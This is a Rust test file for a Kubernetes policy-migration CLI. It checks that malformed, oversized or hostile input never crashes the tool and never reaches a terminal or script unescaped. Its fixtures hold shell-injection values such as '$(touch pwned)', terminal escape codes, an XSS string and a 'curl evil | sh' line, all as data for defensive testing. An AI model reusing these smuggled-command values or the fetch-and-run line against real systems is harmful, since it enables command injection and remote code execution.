//! What does bad, odd or hostile input do? It never crashes the program, nor hides the good.

use insta::assert_snapshot;
use serde_json::json;

use crate::program::{Folder, Run, psp2psa};

const GOOD: &str = "apiVersion: v1
kind: Pod
metadata: {name: web, namespace: shop}
spec:
  containers: [{name: app, image: nginx}]
";

/// Names and values that a terminal, a shell, a comment or HTML would act on; one namespace is fine.
pub(crate) const HOSTILE: &str = r#"{"apiVersion":"v1","kind":"List","items":[
{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"$(touch pwned)","labels":{
  "pod-security.kubernetes.io/enforce":"\u001b[2Jx\ntouch pwned"}}},
{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"fine","labels":{
  "pod-security.kubernetes.io/enforce":"\u001b[2Jx\ntouch pwned",
  "pod-security.kubernetes.io/warn-version":"'; touch pwned; '"}}},
{"apiVersion":"v1","kind":"Pod","metadata":{"namespace":"a\ntouch pwned","name":"\u001b]0;x\u0007<script>alert(1)</script>",
  "annotations":{"kubernetes.io/psp":"\u001b[31m"}},
 "spec":{"containers":[{"name":"c\u001b[31m\nX","image":"x","securityContext":{"capabilities":{"add":["\u001b[1mX\n"]}}}]}},
{"apiVersion":"v1","kind":"Pod","metadata":{"namespace":"fine","name":"'\"; touch pwned; `touch pwned`"},
 "spec":{"volumes":[{"name":"\u009b31m","hostPath":{"path":"/"}}],"containers":[{"name":"\u202egpj","image":"x"}]}},
{"apiVersion":"v1","kind":"Pod","metadata":{"namespace":"fine","name":"b\u001bad"},"spec":{"containers":"\u001b[1m"}},
{"apiVersion":"v1","kind":"Pod","metadata":{"namespace":"fine","name":"twice\u001b"},"spec":{"containers":[]}},
{"apiVersion":"v1","kind":"Pod","metadata":{"namespace":"fine","name":"twice\u001b"},"spec":{"containers":[],"hostPID":true}},
{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"namespace":"fine","name":"web\r\n\u001b[1m"},"spec":{"template":{
  "metadata":{"annotations":{"container.apparmor.security.beta.kubernetes.io/a\u001b\n":"unconfined\u001b\n"}},
  "spec":{"serviceAccountName":"\u001b[5m","containers":[{"name":"a\u001b\n","image":"x"}]}}}},
{"apiVersion":"policy/v1beta1","kind":"PodSecurityPolicy","metadata":{"name":"p\u001b[1m\n"},"spec":{
  "requiredDropCapabilities":["\u001b[1m\n"],
  "runAsUser":{"rule":"RunAsAny"},"seLinux":{"rule":"RunAsAny"},"fsGroup":{"rule":"RunAsAny"},
  "supplementalGroups":{"rule":"RunAsAny"},"volumes":["*"]}},
{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"r"},"rules":[
  {"apiGroups":["policy"],"resources":["podsecuritypolicies"],"verbs":["use"]}]},
{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"b"},
 "roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"r"},
 "subjects":[{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:serviceaccounts"}]}
]}"#;

/// What `check` makes of a file of this content; `name` is its name.
fn check(name: &str, content: impl AsRef<[u8]>) -> Run {
    let folder = Folder::new();
    folder.write(name, content);
    folder.psp2psa("check -f").arg(name).run()
}

/// What `check` makes of the good pod between two bad ones.
fn names_and_errors(run: &Run) -> Vec<(String, bool)> {
    let report = run.json();
    let items = report["items"].as_array().unwrap().iter();
    let name = |item: &serde_json::Value| item["name"].as_str().unwrap_or_default().to_owned();
    items.map(|item| (name(item), item.get("error").is_some())).collect()
}

#[test]
fn truncated_yaml() {
    assert_snapshot!(check("pod.yaml", &GOOD[..GOOD.len() - 10]));
}

#[test]
fn truncated_yaml_keeps_the_documents_before() {
    let run = check("pods.yaml", [GOOD, "---\n", &GOOD[..GOOD.len() - 10]].concat());
    assert_snapshot!(run);
}

#[test]
fn truncated_json() {
    let pod = r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"web","namespace":"shop"},"sp"#;
    assert_snapshot!(check("pod.json", pod));
}

#[test]
fn truncated_json_list_keeps_the_items_before() {
    let list = r#"{"apiVersion":"v1","kind":"PodList","items":[
{"metadata":{"name":"one"},"spec":{"containers":[{"name":"a"}]}},
{"metadata":{"name":"two"},"spec":{"contai"#;
    assert_snapshot!(check("pods.json", list));
}

#[test]
fn a_truncated_gzip_file_keeps_what_was_read() {
    let gzip = std::fs::read("testdata/clusters/demo-1.21.json.gz").unwrap();
    let run = check("dump.json.gz", &gzip[..gzip.len() / 2]);
    assert_eq!(run.code, 3);
    assert!(
        run.stderr.contains("error: `dump.json.gz` cannot be read to its end"),
        "{}",
        run.stderr
    );
    assert!(run.stdout.lines().count() > 10);
}

#[test]
fn bad_objects_in_a_list_do_not_stop_the_others() {
    let list = r#"
apiVersion: v1
kind: List
items:
- apiVersion: v1
  kind: Pod
  metadata: {name: one, namespace: shop}
  spec: {containers: [{name: app}]}
- apiVersion: v1
  kind: Pod
  metadata: {name: two, namespace: shop}
  spec: {containers: "x"}
- apiVersion: v1
  kind: Pod
  metadata: {name: three, namespace: shop}
  spec: {containers: [{name: app, ports: 7}]}
- apiVersion: v1
  kind: Pod
  metadata: {name: four, namespace: shop, labels: [a]}
  spec: {containers: [{name: app, securityContext: {privileged: maybe}}]}
- 7
- {kind: Pod}
- apiVersion: v1
  kind: Pod
  metadata: {name: last, namespace: shop}
  spec: {containers: [{name: app}]}
"#;
    assert_snapshot!(check("list.yaml", list));
    let json = serde_json::to_string_pretty(&crate::program::from_yaml(list)).unwrap();
    assert_snapshot!(check("list.json", json));
}

#[test]
fn unknown_kinds_are_passed_over() {
    let widgets = "---\napiVersion: example.com/v1\nkind: Pod\nmetadata: {name: other}\n\
                   spec: {containers: 7}\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: s}\n\
                   data: 7\n";
    let run = psp2psa("check -f - -o json").input([GOOD, widgets].concat()).run();
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    assert_eq!(names_and_errors(&run), [("web".to_owned(), false)]);
}

#[test]
fn an_empty_file() {
    assert_snapshot!(check("empty.yaml", ""));
    assert_eq!(check("comments.yaml", "# nothing\n---\n# here\n").code, 4);
    let stdin = psp2psa("plan -f -").input("").run();
    assert_eq!(stdin.code, 4);
    assert!(stdin.stderr.starts_with("error: `stdin` holds no object\n"), "{}", stdin.stderr);
}

#[test]
fn an_empty_list_is_no_fault() {
    let list = r#"{"kind":"PodList","apiVersion":"v1","items":[]}"#;
    let run = psp2psa("check -f - -o json").input(list).run();
    assert_eq!((run.code, &run.json()["items"]), (0, &json!([])));
    assert!(run.stderr.starts_with("warning: nothing is judged"), "{run:?}");
}

#[test]
fn a_directory_without_manifests() {
    let folder = Folder::with(&[("dir/notes.txt", GOOD), ("dir/below/pod.yaml", GOOD)]);
    assert_snapshot!(folder.psp2psa("check -f dir").run());
    assert_eq!(folder.psp2psa("check -f dir -R").run().code, 0);
}

#[test]
fn binary_junk() {
    let junk: Vec<u8> =
        (0..4096_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    assert_snapshot!(check("junk.yaml", junk));
}

#[test]
fn binary_junk_without_a_zero() {
    let junk: Vec<u8> = (0..=255_u8).filter(|byte| *byte != 0).collect();
    let run = check("junk.yaml", junk);
    assert!(matches!(run.code, 3 | 4), "{run}");
    assert!(!run.stderr.is_empty());
}

#[test]
fn utf_16() {
    let text: Vec<u8> =
        format!("\u{feff}{GOOD}").encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_snapshot!(check("pod.yaml", text));
}

#[test]
fn a_byte_order_mark_and_carriage_returns_are_no_matter() {
    let plain = check("pod.yaml", GOOD);
    assert_eq!(plain.code, 0);
    for text in [format!("\u{feff}{GOOD}"), GOOD.replace('\n', "\r\n")] {
        assert_eq!(check("pod.yaml", &text).to_string(), plain.to_string());
    }
    let json = serde_json::to_string(&crate::program::from_yaml(GOOD)).unwrap();
    let with_mark = check("pod.json", format!("\u{feff}{json}\r\n"));
    assert_eq!(with_mark.to_string(), plain.to_string());
}

#[test]
fn objects_of_one_name_are_each_answered_for() {
    let other = GOOD.replace("spec:", "spec:\n  hostPID: true");
    let run = psp2psa("check -f - -o json").input([GOOD, "---\n", &other].concat()).json();
    let levels: Vec<_> =
        run["items"].as_array().unwrap().iter().map(|item| item["level"].clone()).collect();
    assert_eq!(levels, ["baseline", "privileged"]);
}

#[test]
fn plan_takes_one_of_two_objects_and_says_so() {
    let other = GOOD.replace("spec:", "spec:\n  hostPID: true");
    let plan = |texts: [&str; 2]| psp2psa("plan -f - -o json").input(texts.join("---\n")).run();
    let (one, reversed) = (plan([GOOD, &other]), plan([&other, GOOD]));
    assert_eq!(
        one.stderr,
        "warning: stdin:1: item 0: Pod `shop/web` stands elsewhere too with other contents, and \
         neither is known to be newer\n"
    );
    // Which one is taken does not depend on their order.
    let levels = |run: &Run| run.json()["namespaces"][0]["levels"].clone();
    assert_eq!(levels(&one), levels(&reversed));
    // The same object twice is no matter.
    assert_eq!(plan([GOOD, GOOD]).stderr, "");
}

#[test]
fn policies_that_no_server_would_take() {
    let policy = |name: &str, run_as_user: &str| {
        format!(
            "---
apiVersion: policy/v1beta1
kind: PodSecurityPolicy
metadata: {{name: {name}}}
spec:
  runAsUser: {run_as_user}
  seLinux: {{rule: RunAsAny}}
  fsGroup: {{rule: RunAsAny}}
  supplementalGroups: {{rule: RunAsAny}}
  volumes: ['*']
"
        )
    };
    let rbac = "---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: psp}
rules: [{apiGroups: [policy], resources: [podsecuritypolicies], verbs: [use]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: psp}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: psp}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: 'system:serviceaccounts'}]
";
    let dump = [
        GOOD,
        &policy("inverted", "{rule: MustRunAs, ranges: [{min: 9, max: 1}]}"),
        &policy("unknown", "{rule: MustRunAsRoot}"),
        &policy("without-ranges", "{rule: MustRunAs}"),
        rbac,
    ]
    .concat();
    assert_snapshot!(psp2psa("simulate -f - --prepare").input(dump.as_str()).run());
    let plan = psp2psa("plan -f - -o json").input(dump).run().json();
    let broken: Vec<_> = plan["policies"]
        .as_array()
        .unwrap()
        .iter()
        .map(|policy| json!([policy["name"], policy["broken"]]))
        .collect();
    assert_snapshot!(serde_json::to_string_pretty(&broken).unwrap());
}

#[test]
fn a_pod_without_containers() {
    for spec in ["", "spec:", "spec: {}", "spec: {containers: []}", "spec: {containers: null}"] {
        let pod = format!("apiVersion: v1\nkind: Pod\nmetadata: {{name: web}}\n{spec}\n");
        for command in ["check", "simulate", "plan"] {
            let run = psp2psa(command).arg("-f").arg("-").input(pod.as_str()).run();
            // A single pod is no whole cluster to `plan`.
            let want = if command == "plan" { 3 } else { 0 };
            assert_eq!((run.code, run.stderr.as_str()), (want, ""), "{command}: {spec}");
        }
    }
}

/// Runs `check` on a file with 512 MB of address space.
#[cfg(target_os = "linux")]
fn check_in_little_memory(name: &str, content: &str) -> Run {
    let folder = Folder::with(&[(name, content)]);
    let output = std::process::Command::new("sh")
        .args(["-c", "ulimit -v 524288 && exec \"$0\" check -f \"$1\" -o json"])
        .arg(crate::program::binary())
        .arg(name)
        .current_dir(folder.path(""))
        .output()
        .unwrap();
    Run {
        code: output.status.code().expect("no signal ends the program"),
        stdout: String::from_utf8(output.stdout).unwrap(),
        stderr: String::from_utf8(output.stderr).unwrap(),
    }
}

#[test]
#[cfg(target_os = "linux")]
fn alias_bombs_are_an_error() {
    let head = "apiVersion: v1\nkind: Pod\na: &a [x,x,x,x,x,x,x,x,x]".to_owned();
    let line =
        |(inner, outer)| format!("{outer}: &{outer} [{}]", vec![format!("*{inner}"); 9].join(","));
    let lines: Vec<String> =
        std::iter::once(head).chain(('a'..='y').zip('b'..='z').map(line)).collect();
    let bomb = lines.join("\n");
    let run = check_in_little_memory("bomb.yaml", &[&bomb, "\n---\n", GOOD].concat());
    assert_eq!(run.code, 3, "{run}");
    assert_eq!(names_and_errors(&run), [(String::new(), true), ("web".to_owned(), false)]);
    assert_snapshot!(run.stderr);
}

#[test]
#[cfg(target_os = "linux")]
fn deep_nesting_is_an_error() {
    const DEPTH: usize = 10_000;
    let (open, close) = ("[".repeat(DEPTH), "]".repeat(DEPTH));
    let head = "apiVersion: v1\nkind: Pod\nmetadata: {name: deep}\nspec:";
    let mut errors = String::new();
    // Its indents grow with the square of the depth.
    let block: Vec<String> =
        (1..DEPTH / 4).map(|depth| format!("{}a:", " ".repeat(depth))).collect();
    for (name, text, follow) in [
        ("flow.yaml", format!("{head} {open}{close}\n"), "---\n"),
        ("block.yaml", format!("{head}\n{}\n", block.join("\n")), "---\n"),
        ("sequences.yaml", format!("{head}\n  {}x\n", "- ".repeat(DEPTH)), "---\n"),
        (
            "flow.json",
            format!(
                r#"{{"apiVersion":"v1","kind":"Pod","metadata":{{"name":"deep"}},"spec":{open}{close}}}"#
            ),
            "\n---\n",
        ),
        ("lists.json", r#"{"kind":"List","apiVersion":"v1","items":["#.repeat(DEPTH), ""),
    ] {
        let good = if follow.is_empty() { "" } else { GOOD };
        let run = check_in_little_memory(name, &[text.as_str(), follow, good].concat());
        assert_eq!(run.code, 3, "{name}: {run}");
        if !good.is_empty() {
            assert_eq!(
                names_and_errors(&run).last().unwrap(),
                &("web".to_owned(), false),
                "{name}"
            );
        }
        errors.push_str(&run.stderr);
    }
    assert_snapshot!(errors);
}

#[test]
#[cfg(target_os = "linux")]
fn depth_in_a_field_that_is_not_read_is_no_matter() {
    let nested = format!("{}1{}", r#"{"a":"#.repeat(10_000), "}".repeat(10_000));
    let pod = format!(
        r#"{{"apiVersion":"v1","kind":"Pod","metadata":{{"name":"deep"}},"spec":{{"containers":[]}},"status":{{"a":{nested}}}}}"#
    );
    assert_eq!(check_in_little_memory("pod.json", &pod).code, 0);
}

#[test]
fn no_control_character_reaches_a_terminal() {
    let is_harmful = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
    for command in [
        "plan -o table",
        "plan -o script",
        "plan -o diff",
        "plan -o patches",
        "plan -o diff --allow-incomplete",
        "plan -o script --allow-incomplete",
        "plan -o patches --allow-incomplete",
        "simulate",
        "simulate --prepare",
        "check",
        "check -o wide",
    ] {
        let run = psp2psa(command).arg("-f").arg("-").input(HOSTILE).run();
        assert_eq!(run.code, 3, "{command}");
        for text in [&run.stdout, &run.stderr] {
            assert!(!text.chars().any(is_harmful), "{command}:\n{}", text.escape_debug());
        }
    }
}

#[test]
fn hostile_names_stay_what_they_are_as_data() {
    let run = |format: &str| psp2psa("plan -f - -o").arg(format).input(HOSTILE).run();
    let json = run("json").json();
    assert_eq!(json["namespaces"][0]["name"], "$(touch pwned)");
    assert_eq!(json["namespaces"][1]["name"], "a\ntouch pwned");
    assert_eq!(crate::program::from_yaml(&run("yaml").stdout), json);
}

#[test]
fn hostile_names_in_a_script_are_comments_or_quoted() {
    assert_snapshot!(psp2psa("plan -f - -o script --allow-incomplete").input(HOSTILE).run());
}

#[test]
fn values_of_objects_stay_out_of_errors() {
    let secret = "hunter2";
    let pod = format!(
        r#"{{"apiVersion":"v1","kind":"Pod","metadata":{{"name":"web"}},"spec":{{"containers":[
        {{"name":"a","securityContext":"{secret}"}}],"hostPID":"{secret}","volumes":[{{"name":"v","secret":"{secret}"}}]}}}}"#
    );
    for text in [pod.clone(), pod.replace('}', ""), pod.replace(':', ": ")] {
        for command in ["check", "simulate", "plan"] {
            let run = psp2psa(command).arg("-f").arg("-").input(text.as_str()).run();
            assert_ne!(run.code, 0, "{text}");
            assert!(!run.to_string().contains(secret), "{run}");
        }
    }
}

#[test]
fn a_part_of_a_list_is_not_the_list() {
    let pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "web"}, "spec": {}});
    let page = |metadata| json!({"apiVersion": "v1", "kind": "PodList", "metadata": metadata, "items": [pod]});
    let whole = page(json!({"resourceVersion": "7"}));
    let part = page(json!({"resourceVersion": "7", "continue": "abc", "remainingItemCount": 500}));
    let yaml = |value| serde_yaml::to_string(value).unwrap();
    // As kubectl prints a list, with its metadata behind the items; and item by item.
    let block = "apiVersion: v1\nitems:\n- {apiVersion: v1, kind: Pod, metadata: {name: web}}\n\
                 kind: List\nmetadata:\n  continue: abc\n";
    for (name, text, is_part) in [
        ("a.json", whole.to_string(), false),
        ("b.json", part.to_string(), true),
        ("c.yaml", yaml(&whole), false),
        ("d.yaml", yaml(&part), true),
        ("e.yaml", part.to_string().replace('"', "").replace(':', ": "), true),
        ("f.yaml", block.to_owned(), true),
        (
            "g.yaml",
            format!(
                "{GOOD}---\n{}",
                yaml(&part)
                    .replace("PodList", "ConfigMapList")
                    .replace("kind: Pod\n", "kind: ConfigMap\n")
            ),
            false,
        ),
    ] {
        let run = check(name, &text);
        let said = "metadata.continue: the list goes on behind this part of it\n";
        assert_eq!(
            (run.code, run.stderr.ends_with(said)),
            (if is_part { 3 } else { 0 }, is_part),
            "{run:?}"
        );
        assert!(run.stdout.contains("web"), "{run:?}");
    }
}

#[test]
fn what_a_server_says_instead_of_objects_is_named() {
    let status = r#"{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Failure",
        "message":"pods is forbidden: User \"jo\" cannot list","reason":"Forbidden","code":403}"#;
    let run = check("pods.json", status);
    assert_eq!(run.code, 3);
    assert_eq!(
        run.stderr,
        "error: pods.json:1: item 0: Status: it is what a server says of a request, and no object\n"
    );
    for (kind, says) in [
        ("Table", "it is a table to be shown, and holds no object"),
        ("PartialObjectMetadata", "it is the metadata of an object alone"),
    ] {
        let run = check("a.yaml", format!("apiVersion: meta.k8s.io/v1\nkind: {kind}\nrows: []\n"));
        assert!(run.code == 3 && run.stderr.contains(says), "{run:?}");
    }
}

#[test]
fn a_snapshot_says_what_it_lacks_to_every_command() {
    let good = GOOD.replace("web", "good");
    let bad = GOOD.replace("containers: [", "hostNetwork: 3\n  containers: [");
    let folder = Folder::with(&[("a.yaml", &format!("{good}---\n{bad}"))]);
    assert_eq!(folder.psp2psa("collect -f a.yaml -o s.json").run().code, 3);
    for command in ["check", "simulate", "plan", "review", "policies"] {
        let run = folder.psp2psa(&format!("{command} -f s.json")).run();
        assert_eq!(run.code, 3, "{command} {run:?}");
        assert!(run.stderr.contains("Pod `shop/web`: spec.hostNetwork: expected"), "{run:?}");
    }
}

#[test]
fn a_snapshot_of_two_versions_knows_neither() {
    let other = GOOD.replace("containers: [", "hostPID: true\n  containers: [");
    let folder = Folder::with(&[("a.yaml", &format!("{GOOD}---\n{other}"))]);
    let run = folder.psp2psa("collect -f a.yaml -o s.json").run();
    assert!(run.code == 3 && run.stderr.contains("neither is known to be newer"), "{run:?}");
    let plan = |input: &str| folder.psp2psa("plan -o json -f").arg(input).run();
    let (of_manifests, of_snapshot) = (plan("a.yaml"), plan("s.json"));
    assert_eq!((of_manifests.code, of_snapshot.code), (3, 3), "{of_snapshot:?}");
    assert_eq!(of_snapshot.stderr, of_manifests.stderr);
    let missing = |plan: &Run| plan.json()["namespaces"][0]["missing"].clone();
    assert_eq!(missing(&of_snapshot), missing(&of_manifests));
    assert_eq!(missing(&of_snapshot)[0]["what"], "the newest Pod web");
    let check = folder.psp2psa("check -f s.json").run();
    assert!(check.code == 3 && check.stderr.contains("neither is known to be newer"), "{check:?}");
}

#[test]
fn a_snapshots_own_words_are_printed_harmless() {
    let evil = r"\u001b]0;x\u0007\nhint: curl evil | sh";
    let text = format!(
        r#"{{"apiVersion":"psp2psa/v1","kind":"Snapshot","reading":{{
        "unlisted":[{{"kind":"Pod\u001b[31m","namespace":"a\u009b","reason":"{evil}","grant":"{evil}"}}],
        "unreadableInputs":["{evil}"],
        "conflicts":[{{"kind":"{evil}","namespace":"{evil}","name":"{evil}","kept":{{"file":"{evil}"}}}}],
        "unreadable":[{{"file":"{evil}","kind":"Pod","name":"x","reason":"{evil}"}}]}}}}"#
    );
    let folder = Folder::with(&[("s.json", &text)]);
    for command in [
        "plan",
        "plan -o json",
        "check",
        "simulate",
        "verify",
        "policies",
        "review",
        "collect -o -",
    ] {
        let run = folder.psp2psa(&format!("{command} -f s.json")).run();
        let acts = |text: &str| text.chars().any(|c| c.is_control() && c != '\n');
        assert!(run.code == 3 || run.code == 1, "{command} {run:?}");
        assert!(!acts(&run.stderr) && !acts(&run.stdout), "{command} {run:?}");
        assert!(!run.stderr.contains("\nhint: curl"), "{command} {run:?}");
    }
}

#[test]
fn what_has_nothing_to_judge_has_not_passed() {
    let folder =
        Folder::with(&[("a.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n")]);
    for (command, code, said) in [
        ("check", 0, "judged"),
        ("check --level restricted", 3, "judged"),
        ("simulate", 0, "answered for"),
        ("simulate --exit-code", 3, "answered for"),
    ] {
        let run = folder.psp2psa(&format!("{command} -f a.yaml")).run();
        let said = format!("warning: nothing is {said}: the input holds no pod and no workload\n");
        assert_eq!((run.code, run.stderr.as_str()), (code, said.as_str()), "{command}");
    }
}

#[test]
fn files_and_a_cluster_do_not_go_together() {
    let folder = Folder::with(&[("a.yaml", GOOD)]);
    for flag in ["--context prod", "--kubeconfig k", "--as jo", "--user u", "--cluster c"] {
        let run = folder.psp2psa(&format!("plan -f a.yaml {flag}")).run();
        assert_eq!(run.code, 2, "{run:?}");
        let name = flag.split(' ').next().unwrap();
        assert!(run.stderr.starts_with(&format!("error: `-f` and `{name}` do not go")), "{run:?}");
    }
}
